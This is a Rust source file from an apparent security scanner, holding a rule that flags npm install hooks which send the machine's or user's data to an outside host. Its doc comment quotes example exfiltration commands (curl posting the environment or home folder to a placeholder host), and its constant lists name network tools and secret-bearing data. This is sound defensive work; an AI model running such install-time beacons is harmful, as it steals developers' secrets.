//! A package's install hook that reports the machine to an outside host (round 37m,
//! `supply_chain.install-hook-beacon`).
//!
//! npm runs a package's `preinstall`, `install`, `postinstall` and `prepare` scripts by itself when
//! the package is installed: nobody reads or confirms them. The classic malicious package puts a
//! request there that carries the machine's identity or secrets — the home folder, the user or
//! host name, the environment — to a host of its own (`node -e "…execSync('curl
//! https://host/c?h='+os.homedir())"`, `curl -d "$(env)" https://host`). A build step that
//! downloads its own binary names no user or machine data; a vendor's or registry's host, or this
//! machine, is not an outside collector.
//!
//! Facts, on one line of a `package.json`: the lifecycle key; a network call (`curl`, `wget`,
//! `http(s).get`/`request`, `fetch(`, `Invoke-WebRequest`, `nc`); a host that is not local, a
//! vendor's, an installer's or a registry's; and a machine or user datum (`homedir`, `hostname`,
//! `userInfo`, `whoami`, `$HOME`, `$USER`, `process.env`, `env`, `printenv`, `uname`). Judged: all
//! four, `critical`, the hook line as evidence (both ends are on it). One pass over the manifest's
//! lowered lines: linear in bytes.

use super::{Bundle, hosts_in};
use crate::scan::content::{Finding, evidence};
use crate::scan::rules::Severity;

/// The lifecycle scripts npm runs on install.
const HOOKS: &[&str] = &[
    "\"preinstall\"",
    "\"install\"",
    "\"postinstall\"",
    "\"prepare\"",
];

/// Calls that make a request.
const CALLS: &[&str] = &[
    "curl ",
    "wget ",
    "http.get",
    "https.get",
    "http.request",
    "https.request",
    "fetch(",
    "require('https')",
    "require('http')",
    "require(\\\"https\\\")",
    "require(\\\"http\\\")",
    "axios",
    "invoke-webrequest",
    "iwr ",
    "nc ",
];

/// Data that identify the machine or its user, or carry its secrets.
const MACHINE: &[&str] = &[
    "homedir",
    "hostname",
    "userinfo",
    "whoami",
    "$home",
    "${home}",
    "$user",
    "${user}",
    "process.env",
    "$(env",
    "printenv",
    "uname",
    "networkinterfaces",
];

pub(super) fn install_hook_beacon(b: &Bundle<'_>, out: &mut Vec<Finding>) {
    for file in &b.files {
        if !(file.path == "package.json" || file.path.ends_with("/package.json")) {
            continue;
        }
        let lw = file.lowered();
        for (i, l) in lw.lower.iter().enumerate() {
            let Some(hook) = HOOKS.iter().find(|h| l.starts_with(*h)) else {
                continue;
            };
            let Some(call) = CALLS.iter().find(|c| l.contains(*c)) else {
                continue;
            };
            let Some(datum) = MACHINE.iter().find(|m| l.contains(*m)) else {
                continue;
            };
            let raw = lw.lines[i];
            let outside = hosts_in(raw).into_iter().find(|h| h.class.is_outside());
            let Some(host) = outside else {
                continue;
            };
            out.push(Finding {
                rule_id: "supply_chain.install-hook-beacon".into(),
                category: "supply_chain".into(),
                severity: Severity::Critical,
                file: file.path.into(),
                line: i + 1,
                evidence: evidence(raw, 0, raw.len()),
                description: format!(
                    "{}:{}: the {} hook, which npm runs unasked on install, makes a request (`{}`) to {} carrying the machine's or user's data (`{}`): an install-time beacon. A build step has no reason to report who installed it. Do not install it.",
                    file.path,
                    i + 1,
                    hook.trim_matches('"'),
                    call.trim(),
                    host.host,
                    datum,
                ),
                related: Vec::new(),
            });
        }
    }
}
